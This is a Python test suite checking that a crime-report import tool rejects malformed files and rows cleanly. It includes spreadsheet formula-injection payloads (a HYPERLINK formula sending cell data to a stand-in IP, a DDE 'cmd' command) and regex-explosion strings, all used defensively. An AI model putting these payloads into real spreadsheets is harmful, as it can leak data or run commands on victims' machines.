"""Bad input through the whole of `hue import`: a clear message, the good rows stored, nothing half-stored."""

from __future__ import annotations

import gzip
import io
import json
import random
import time
from pathlib import Path

import openpyxl
import pytest

from hueandcry.access.viewer import viewing
from hueandcry.stages.record import queries
from tests.factories import ENGINE_VIEWER
from tests.journeys.importing import bring_in, cells, report

pytestmark = pytest.mark.django_db

HEADER = "ref,text,when\n"
GOOD = "47/1/26,Threats sent on Facebook,03/04/2026\n"
LAST = "47/9/26,Bike stolen from a shed,05/04/2026\n"


def wide(columns: int) -> str:
    names = ["ref", "text", "when", *(f"extra {n}" for n in range(columns - 3))]
    return cells([names, ["47/1/26", "Threats", "03/04/2026", *(["x"] * (columns - 3))]])


def noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


# Name → bytes, and what is said. No row of these can be read.
UNREADABLE = {
    "an empty file": (b"", "is empty"),
    "nothing but blanks": (b"\n \r\n\t\n", "is empty"),
    "nothing but NUL bytes": (b"\0" * 5000, "is empty"),
    "random bytes": (noise(20_000), "holds binary data"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + noise(2000), "is a picture"),
    "an old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(2000), "is an old or locked Excel file"),
    "a ZIP archive": (b"PK\x03\x04" + noise(2000), "is no sound XLSX workbook"),
    "a Parquet file cut off": (b"PAR1" + noise(2000), "Parquet"),
    "10,000 columns": (wide(10_000).encode(), "row 1: there are 10,000 columns; at most 2,000 are read"),
}


@pytest.mark.parametrize("what", UNREADABLE)
def test_file_that_cannot_be_read_is_named_and_leaves_nothing_behind(what: str, tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    content, message = UNREADABLE[what]
    file.write_bytes(content)

    done = bring_in(file)

    assert done.exit_code == 1
    assert "export.csv" in done.said
    assert message in done.said
    assert done.batch is None
    with viewing(ENGINE_VIEWER):
        assert queries.sources() == []


# Name → bytes; rows received and stored; row, column and word of the message of the one rejected row.
ONE_ROW_LOST = {
    "a row cut off within quotes": (HEADER + GOOD + LAST + '47/2/26,"cut o', (3, 2), (4, "", "cut off")),
    "a row cut off between cells": (HEADER + GOOD + LAST + "47/2/26,cut o", (3, 2), (4, "", "cut off")),
    "a quotation mark never closed": (
        HEADER + GOOD + '47/2/26,"stray,04/04/2026\n' + LAST * 1 + "47/8/26,Other,05/04/2026\n" * 1,
        (4, 3),
        (3, "", "never closed"),
    ),
    "too many cells": (HEADER + GOOD + "47/2/26,a,04/04/2026,b,c\n" + LAST, (3, 2), (3, "", "5 cells")),
    "a NUL byte": (HEADER + GOOD + "47/2/26,a\0b,04/04/2026\n" + LAST, (3, 2), (3, "text", "NUL")),
    "a cell of over 1 MB": (
        HEADER + GOOD + f"47/2/26,{'a' * 1_000_001},04/04/2026\n" + LAST,
        (3, 2),
        (3, "text", "1,000,001 characters"),
    ),
    "a row of 20 MB": (HEADER + GOOD + f"47/2/26,{'a' * 20_000_000},\n" + LAST, (3, 2), (3, "", "longer than")),
    "no reference": (HEADER + GOOD + ",nothing,04/04/2026\n" + LAST, (3, 2), (3, "reference", "no reference")),
    "a reference of 1 MB": (HEADER + GOOD + "4" * 999_999 + ",a,\n" + LAST, (3, 2), (3, "reference", "reference")),
    "a byte of another encoding": (
        (HEADER + GOOD + "47/3/26,café naïve,04/04/2026\n").encode() + b"47/2/26,caf\xe9,04/04/2026\n" + LAST.encode(),
        (4, 3),
        (4, "text", "0xe9"),
    ),
    "a JSON line cut off": (
        '{"ref": "47/1/26", "text": "a"}\n{"ref": "47/9/26", "text": "b"}\n{"ref": "47/2/26", "te',
        (3, 2),
        (3, "", "row 3"),
    ),
    "a JSON line that is no record": (
        '{"ref": "47/1/26", "text": "a"}\n["47/2/26"]\n{"ref": "47/9/26", "text": "b"}\n',
        (3, 2),
        (2, "", "row 2"),
    ),
}


@pytest.mark.parametrize("what", ONE_ROW_LOST)
def test_bad_row_is_rejected_with_its_place_and_the_others_are_stored(what: str, tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    content, sums, (row, column, word) = ONE_ROW_LOST[what]
    file.write_bytes(content.encode() if isinstance(content, str) else content)

    done = bring_in(file)

    assert (done.exit_code, done.batch.state if done.batch else "") == (0, "done"), done.said
    assert done.sums == sums
    assert done.stored == sums[1]
    (rejected,) = done.rejected
    assert (rejected.row_number, rejected.column) == (row, column)
    assert word in rejected.message
    assert f"Rejected: row {row}" in done.said
    assert {report("47/1/26").version, report("47/9/26").version} == {1}
    assert bring_in(file).sums == (sums[0], 0)


def test_the_rest_of_a_packed_file_that_is_cut_off_is_said_to_be_missing(tmp_path: Path) -> None:
    file = tmp_path / "export.csv.gz"
    rows = [["ref", "text", "when"]]
    rows += [[f"47/{n}/26", random.Random(n).randbytes(30).hex(), "03/04/2026"] for n in range(3000)]
    packed = gzip.compress(cells(rows).encode())
    file.write_bytes(packed[: len(packed) // 2])

    done = bring_in(file)

    assert done.exit_code == 1
    assert done.batch
    assert done.batch.state == "stopped"
    assert 500 < done.batch.stored_count == done.stored < 2500
    reached = done.batch.received_count + 2
    assert f"export.csv.gz, row {reached}: the gzip file is cut off here; ask for it again" in done.said
    file.write_bytes(packed)
    again = bring_in(file)
    assert again.batch
    assert (again.batch.held_count, again.stored) == (done.stored, 3000)


def test_dates_that_do_not_exist_are_named_and_the_record_is_kept(tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    odd = ("31/02/2024", "01/02/0024", "99/99/9999", "soon")
    file.write_text(HEADER + GOOD + cells([f"47/{n}/26", "a", date] for n, date in enumerate(odd, 2)))

    done = bring_in(file)

    assert done.sums == (5, 5)
    for number in (2, 3, 4, 5):
        kept = report(f"47/{number}/26")
        assert kept.reported_at is None
        assert kept.row["when"]
    assert "when: there is no day 31 in month 2 of 2024 (1, first in row 3)" in done.said
    assert "first in row 4" in done.said


ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32")


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_every_usual_encoding_is_read_without_being_told(encoding: str, tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    file.write_bytes((HEADER + GOOD + "47/2/26,Zoë paid £40 – “café”,04/04/2026\n" + LAST).encode(encoding))

    done = bring_in(file)

    assert done.sums == (3, 3)
    assert report("47/2/26").text == "Zoë paid £40 – “café”"


def test_mixed_line_ends_part_rows_and_not_cells(tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    file.write_bytes(b'ref,text,when\r\n47/1/26,a,\n47/2/26,b,\r47/3/26,"c\r\nd\ne\rf",\r\n\r\n47/4/26,g,')

    done = bring_in(file)

    assert done.sums == (4, 4)
    assert report("47/3/26").text.split() == ["c", "d", "e", "f"]
    assert report("47/4/26").text == "g"


def test_columns_of_one_name_are_all_kept_and_told_apart(tmp_path: Path) -> None:
    file = tmp_path / "export.csv"
    file.write_text("ref,text,when,text,,text\n47/1/26,first,03/04/2026,second,third,fourth\n")

    done = bring_in(file)

    assert done.sums == (1, 1)
    assert report("47/1/26").row == {
        "ref": "47/1/26",
        "text": "first",
        "when": "03/04/2026",
        "text (2)": "second",
        "column 5": "third",
        "text (3)": "fourth",
    }
    assert 'There are several columns "text"; column 4 is called "text (2)"' in done.said


FORMULAS = ('=HYPERLINK("http://198.51.100.7/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1")


def test_formulas_are_words_like_any_others(tmp_path: Path) -> None:
    sheet = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["ref", "text", "when"])
    for number, formula in enumerate(FORMULAS, 1):
        book.active.append([f"47/{number}/26", formula, "03/04/2026"])
    book.save(sheet)
    file = tmp_path / "export.xlsx"
    file.write_bytes(sheet.getvalue())

    done = bring_in(file)

    assert done.sums == (len(FORMULAS), len(FORMULAS))
    for number, formula in enumerate(FORMULAS, 1):
        assert report(f"47/{number}/26").row["text"] == formula
    assert "A cell holds a formula; it is kept as text and not run" in done.said


LETTERS = {
    "right to left": "\u202eغريب\u202c \u05d0\u05d1 \u2067x\u2069",
    "unassigned": "\u0378\u0379\U000e0fff",
    "no characters": "\ufffe\uffff\U0010ffff",
    "private": "\ue000\U000f0000",
    "joined": "👨‍👩‍👧 🏴\U000e0067\U000e0062\U000e007f e\u0301\u0302",
    "controls": "\x01\x02\x1b[31m\x7f\x85",
    "backslashes": '\\N \\. \\t C:\\temp\\new {"a"} \\u0000 \\ud800',
}


@pytest.mark.parametrize("what", LETTERS)
@pytest.mark.parametrize("form", ["csv", "json"])
def test_strange_letters_are_kept_as_they_came(what: str, form: str, tmp_path: Path) -> None:
    file = tmp_path / f"export.{form}"
    row = {"ref": "47/1/26", "text": f"before {LETTERS[what]} after", "when": "03/04/2026", "odd": LETTERS[what]}
    quoted = [f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row.values()]
    file.write_text(json.dumps([row]) if form == "json" else cells([row, quoted]), newline="")

    done = bring_in(file)

    assert done.sums == (1, 1), done.rejected[0].message if done.rejected else done.said
    assert report("47/1/26").row == row


def test_half_letters_of_json_are_replaced_and_nuls_are_refused(tmp_path: Path) -> None:
    file = tmp_path / "export.jsonl"
    file.write_text(
        r'{"ref": "47/1/26", "text": "a\ud800b", "odd\udfff": "\udfff", "flag": "\ud800"}' + "\n"
        r'{"ref": "47/2/26", "text": "a\u0000b"}' + "\n"
    )

    done = bring_in(file)

    assert done.sums == (2, 1), done.said
    assert report("47/1/26").text in ("a?b", "a\ufffdb")
    assert 'Rejected: row 2, column "text": this cell holds a NUL byte' in done.said


# Texts that make a careless pattern try again and again.
EXPLOSIVE = {
    name: (piece * (100_000 // len(piece)) + end)[:100_000]
    for name, piece, end in (
        ("one letter", "a", "!"),
        ("at signs", "a@", "!"),
        ("dots", "a.", "!"),
        ("half addresses", "a.b+c@d.e ", "@"),
        ("digits", "1", "x"),
        ("digits apart", "1 ", "x"),
        ("phones", "07700 900", "x"),
        ("codes", "+44 ", "x"),
        ("account parts", "12-34-56 ", "x"),
        ("hosts", "www.", "!"),
        ("schemes", "http://", "!"),
        ("defanged", "hxxp[:]//a[.]b", "["),
        ("octets", "1.1.", "x"),
        ("colons", "a:", "!"),
        ("IBANs", "GB82 WEST ", "!"),
        ("dates", "12/", "x"),
        ("spaces", " ", "x"),
        ("brackets", "((a", "!"),
        ("quotes", "'\u201c", "!"),
        ("money", "£1,", "x"),
        ("accents", "e\u0301\u0302\u0303", "!"),
        ("negations", "not ", "!"),
        ("platforms", "on facebook ", "!"),
        ("escapes", "%20=&", "!"),
    )
}


def test_texts_built_to_make_patterns_explode_cost_little(tmp_path: Path) -> None:
    file = tmp_path / "export.jsonl"
    headers = ("text", "when", "postcode", "class", "flag", "victim", "suspect phone", "odd")
    rows = [{"ref": f"47/{n}/26"} | dict.fromkeys(headers, text) for n, text in enumerate(EXPLOSIVE.values(), 1)]
    file.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows))

    began = time.process_time()
    done = bring_in(file)

    assert done.sums == (len(rows), len(rows)), done.said
    assert time.process_time() - began < 20
